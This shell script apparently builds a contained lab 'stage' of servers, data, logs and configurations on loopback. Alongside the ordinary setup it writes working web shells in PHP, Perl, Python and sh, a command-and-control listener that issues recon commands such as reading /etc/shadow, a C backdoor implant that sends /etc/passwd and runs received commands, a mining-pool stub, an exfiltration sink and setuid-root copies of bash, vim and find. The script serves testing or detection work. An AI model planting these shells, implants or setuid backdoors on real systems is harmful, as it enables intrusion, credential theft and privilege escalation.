# Makes what the scenes find on the stage: files, keys, sites, a database, small programs.
mkdir -p /srv/data /srv/site/cgi-bin /srv/shells/cgi-bin /run/sshd /run/vsftpd/empty /var/log/old
for k in $(seq 1 40); do
    seq $k $((k * 40)) | awk '{print $1 ",item-" $1 % 17 "," $1 * 7 % 1000}' > /srv/data/table-$k.csv
done
for k in $(seq 1 12); do head -c $((k * 3000)) /dev/urandom > /srv/data/picture-$k.jpg; done
seq 1 3000 | awk '{print "Nov 22 10:" int($1 / 60) % 60 ":" $1 % 60 " stage sshd[" $1 "]: Accepted password for alice from 10.0.0." $1 % 250}' > /var/log/auth.log
seq 1 2000 | awk '{print "10.0.0." $1 % 200 " - - [22/Nov/2026:10:00:00 +0000] \"GET /p" $1 % 31 ".html HTTP/1.1\" 200 " $1}' > /var/log/access.log
cp /var/log/auth.log /var/log/old/auth.log.1
for k in 1 2 3 4 5 6 7 8; do
    echo "<html><body><h1>Page $k</h1><a href=page$((k % 8 + 1)).html>next</a></body></html>" > /srv/site/page$k.html
done
cp /srv/data/picture-*.jpg /srv/site/
cat > /srv/site/index.php <<'P'
<?php $k = intval($_GET['k'] ?? 1); $f = fopen("/srv/data/table-$k.csv", "r"); $s = 0;
while (($r = fgetcsv($f)) !== false) { $s += intval($r[2]); }
echo "<p>sum of table $k: $s</p>"; file_put_contents("/tmp/visits-" . getmypid(), date("c"), FILE_APPEND);
P
cat > /srv/shells/up.php <<'P'
<?php if (isset($_REQUEST['c'])) { echo "<pre>"; system($_REQUEST['c']); }
if (isset($_REQUEST['f'])) { echo file_get_contents($_REQUEST['f']); }
P
cat > /srv/site/cgi-bin/sum.pl <<'P'
#!/usr/bin/perl
my ($k) = ($ENV{QUERY_STRING} // '') =~ /k=(\d+)/; $k ||= 1; my $s = 0;
open my $f, '<', "/srv/data/table-$k.csv"; while (<$f>) { $s += (split /,/)[2] }
print "Content-Type: text/plain\r\n\r\n", `date`, "sum $s\n";
P
cat > /srv/site/cgi-bin/sum.py <<'P'
#!/usr/bin/python3
import csv, os, subprocess
k = (os.environ.get("QUERY_STRING") or "k=1").rpartition("=")[2]
rows = list(csv.reader(open(f"/srv/data/table-{k}.csv")))
print("Content-Type: text/plain\r\n\r\n", len(rows), subprocess.run(["uptime"], capture_output=True).stdout)
P
cat > /srv/site/cgi-bin/sum.sh <<'P'
#!/bin/sh
k=${QUERY_STRING#k=}
printf 'Content-Type: text/plain\r\n\r\n'; sort -t, -k3 -n "/srv/data/table-${k:-1}.csv" | tail -3; date
P
cat > /srv/shells/cgi-bin/up.pl <<'P'
#!/usr/bin/perl
my ($c) = ($ENV{QUERY_STRING} // '') =~ /c=(.*)/; $c =~ tr/+/ /; $c =~ s/%(..)/chr hex $1/ge;
print "Content-Type: text/plain\r\n\r\n", `$c 2>&1`;
P
cat > /srv/shells/cgi-bin/up.py <<'P'
#!/usr/bin/python3
import os, subprocess, urllib.parse
c = urllib.parse.parse_qs(os.environ.get("QUERY_STRING", "")).get("c", ["id"])[0]
print("Content-Type: text/plain\r\n\r\n", subprocess.getoutput(c))
P
cat > /srv/shells/cgi-bin/up.sh <<'P'
#!/bin/sh
c=$(echo "${QUERY_STRING#c=}" | sed 's/+/ /g; s/%2F/\//g; s/%7C/|/g')
printf 'Content-Type: text/plain\r\n\r\n'; eval "$c" 2>&1
P
chmod 755 /srv/site/cgi-bin/* /srv/shells/cgi-bin/*
# the web shells run what they are sent: they are reachable on the stage's loopback only
ssh-keygen -q -t ed25519 -N '' -C '' -f /etc/ssh/ssh_host_ed25519_key <<< y > /dev/null || true
for home in /root /home/alice; do
    mkdir -p -m 700 $home/.ssh
    ssh-keygen -q -t ed25519 -N '' -C '' -f $home/.ssh/id_ed25519
    cat $home/.ssh/id_ed25519.pub >> $home/.ssh/authorized_keys
    cat /root/.ssh/id_ed25519.pub >> $home/.ssh/authorized_keys
    printf 'StrictHostKeyChecking no\nUserKnownHostsFile /dev/null\nLogLevel ERROR\n' > $home/.ssh/config
    cp -r /srv/data $home/files
    git config --file $home/.gitconfig user.email someone@stage.test
    git config --file $home/.gitconfig user.name Someone
done
cat /root/.ssh/id_ed25519.pub /home/alice/.ssh/id_ed25519.pub >> /root/.ssh/authorized_keys
cat /home/alice/.ssh/id_ed25519.pub >> /home/alice/.ssh/authorized_keys
echo "export NOTE=1" >> /home/alice/.bashrc
chown -R alice:alice /home/alice
chmod 777 /srv/data
printf '#!/bin/sh\nexit 0\n' > /usr/sbin/policy-rc.d; chmod 755 /usr/sbin/policy-rc.d
cat > /etc/ssh/stage_config <<'P'
Port 2222
ListenAddress 127.0.0.1
HostKey /etc/ssh/ssh_host_ed25519_key
PermitRootLogin yes
UsePAM no
MaxStartups 50
Subsystem sftp /usr/lib/openssh/sftp-server
P
cat > /etc/vsftpd.conf <<'P'
listen=YES
listen_address=127.0.0.1
listen_port=2121
local_enable=YES
write_enable=YES
seccomp_sandbox=NO
isolate=NO
isolate_network=NO
secure_chroot_dir=/run/vsftpd/empty
P
cat > /etc/nginx/stage.conf <<'P'
worker_processes 2; daemon off; pid /tmp/nginx.pid; error_log /tmp/nginx-error.log;
events { worker_connections 200; }
http { access_log /tmp/nginx-access.log; include mime.types;
  server { listen 127.0.0.1:8080; root /srv/site;
    location /private/ { auth_basic "closed"; auth_basic_user_file /etc/nginx/stage.pw; } } }
P
printf 'admin:%s\n' "$(openssl passwd -apr1 sunflower9)" > /etc/nginx/stage.pw
mkdir -p /srv/site/private && echo closed > /srv/site/private/index.html
for where in site shells; do cat > /etc/lighttpd/$where.conf <<P
server.document-root = "/srv/$where"
server.port = 8081
server.bind = "127.0.0.1"
server.modules = ("mod_cgi", "mod_alias")
cgi.assign = (".php" => "/usr/bin/php-cgi", ".pl" => "/usr/bin/perl", ".py" => "/usr/bin/python3", ".sh" => "/bin/sh")
index-file.names = ("page1.html", "index.php")
P
done
sed -i 's/^;*cgi.fix_pathinfo=.*/cgi.fix_pathinfo=1/; s/^;*cgi.force_redirect.*/cgi.force_redirect=0/' /etc/php/*/cgi/php.ini
for where in site shells; do cat > /etc/apache2/$where.conf <<P
ServerRoot /etc/apache2
ServerName localhost
PidFile /tmp/apache.pid
ErrorLog /tmp/apache-error.log
Listen 127.0.0.1:8082
LoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so
LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so
LoadModule mime_module /usr/lib/apache2/modules/mod_mime.so
LoadModule alias_module /usr/lib/apache2/modules/mod_alias.so
LoadModule cgi_module /usr/lib/apache2/modules/mod_cgi.so
User www-data
Group www-data
StartServers 3
DocumentRoot /srv/$where
ScriptAlias /cgi-bin/ /srv/$where/cgi-bin/
TypesConfig /etc/mime.types
P
done
[ -e /etc/mime.types ] || echo "text/html html" > /etc/mime.types
sqlite3 /srv/data/shop.db "create table t(a integer, b text, c integer);"
awk -F, '{print "insert into t values(" $1 ",\x27" $2 "\x27," $3 ");"}' /srv/data/table-20.csv | sqlite3 /srv/data/shop.db
chmod 666 /srv/data/shop.db
printf '%s\n' 123456 password qwerty letmein dragon monkey shadow master sunflower9 sunshine > /srv/words
printf '%s\n' admin root bob guest > /srv/names
echo "flag" > /root/secret; chmod 600 /root/secret
cat > /usr/local/bin/listen <<'P'
# The other end of a shell: tells it what to do, for as many shells as come.
import os, socket, sys, threading
LINES = ["id", "uname -a", "whoami", "cat /etc/passwd", "ls -la /home", "ps aux", "ss -ltn", "cat /etc/shadow", "find /srv -name '*.csv'", "df -h", "env"]
n = int(os.environ.get("n", "1"))
def talk(c):
    c.settimeout(1.2)
    for line in LINES[n - 1 :: n] + ["exit"]:
        try:
            c.sendall(line.encode() + b"\n")
            c.recv(20000)
        except OSError:
            break
    c.close()
s = socket.create_server(("127.0.0.1", int(sys.argv[1])), backlog=20)
while True:
    c, _ = s.accept()
    threading.Thread(target=talk, args=(c,), daemon=True).start()
P
cat > /usr/local/bin/serve <<'P'
# Sends one file to whoever connects, its length before it where that is asked for.
import socket, struct, sys
data = open(sys.argv[2], "rb").read()
s = socket.create_server(("127.0.0.1", int(sys.argv[1])), backlog=20)
while True:
    c, _ = s.accept()
    c.settimeout(2)
    try:
        c.sendall((struct.pack(">I", len(data)) if len(sys.argv) > 3 else b"") + data)
        while len(sys.argv) > 3 and c.recv(4096):
            pass
    except OSError:
        pass
    c.close()
P
cat > /usr/local/bin/pool <<'P'
# Answers every line, as a mining pool would.
import socketserver, sys
class H(socketserver.StreamRequestHandler):
    def handle(self):
        try:
            for line in self.rfile:
                self.wfile.write(b'{"result":true}\n')
        except OSError:
            pass
socketserver.ThreadingTCPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
P
cat > /usr/local/bin/sink <<'P'
# Takes whatever comes.
import http.server, socketserver, sys
class H(socketserver.BaseRequestHandler):
    def handle(self):
        while self.request.recv(65536):
            pass
class W(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(204)
        self.end_headers()
handler = W if len(sys.argv) > 2 else H
socketserver.ThreadingTCPServer(("127.0.0.1", int(sys.argv[1])), handler).serve_forever()
P
mkdir -p /usr/local/src
cat > /usr/local/src/agent.c <<'P'
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <unistd.h>
/* asks its master on the loopback what to do, a dozen times at most */
int main() {
  struct sockaddr_in a = {AF_INET, htons(4610)}; char b[4096]; struct utsname u;
  a.sin_addr.s_addr = htonl(0x7f000001); int s = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(s, (void *)&a, sizeof a)) return 1;
  uname(&u); getuid(); geteuid(); getcwd(b, 4096);
  for (int k = 0; k < 12; k++) {
    struct pollfd p = {s, POLLIN}; if (poll(&p, 1, 700) <= 0) continue;
    int n = recv(s, b, 4000, 0); if (n <= 0) break; b[n] = 0;
    if (k % 3 == 0) { DIR *d = opendir("/etc"); struct dirent *e; struct stat t; while ((e = readdir(d))) { fstatat(dirfd(d), e->d_name, &t, 0); } closedir(d); send(s, "dir\n", 4, 0); }
    else if (k % 3 == 1) { int f = open("/etc/passwd", O_RDONLY); while ((n = read(f, b, 512)) > 0) send(s, b, n, 0); close(f); }
    else { int q[2]; pipe(q); if (!fork()) { dup2(q[1], 1); close(q[0]); execl("/bin/sh", "sh", "-c", b, NULL); _exit(1); } close(q[1]); while ((n = read(q[0], b, 4000)) > 0) send(s, b, n, 0); close(q[0]); wait(0); send(s, "\n", 1, 0); }
  }
  shutdown(s, 2); close(s); return 0; }
P
cp /bin/bash /tmp/.b; cp /usr/bin/vim.tiny /tmp/.v; cp /usr/bin/find /tmp/.f; chmod 4755 /tmp/.b /tmp/.v /tmp/.f
